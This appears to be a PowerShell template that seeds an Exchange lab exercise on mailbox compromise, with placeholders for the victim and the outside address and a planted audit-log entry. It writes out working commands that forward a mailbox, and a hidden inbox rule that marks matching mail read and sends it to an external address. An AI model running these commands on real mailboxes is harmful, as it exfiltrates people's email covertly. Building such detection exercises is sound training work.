Get-Mailbox -ResultSize Unlimited | Where-Object ForwardingSmtpAddress | Set-Mailbox -ForwardingSmtpAddress $null
Set-Mailbox '{{second}}' -ForwardingSmtpAddress 'smtp:{{outside}}' -DeliverToMailboxAndForward $true
$null = New-InboxRule -Mailbox '{{victim}}' -Name 'Travel' -SubjectContainsWords 'flight', 'hotel' -MarkAsRead $true
$null = New-InboxRule -Mailbox '{{victim}}' -Name '{{rule}}' -SubjectContainsWords '{{word}}' -ForwardTo '{{outside}}' -MarkAsRead $true -StopProcessingRules $true
Add-LabEntry '{{victim}}' -Operation UpdateInboxRules -At '14d 04:26' -Client OWA -ClientIP '{{ip}}' -Rule 'Name={{rule}};SubjectContainsWords={{word}};ForwardTo={{outside}};MarkAsRead=True'
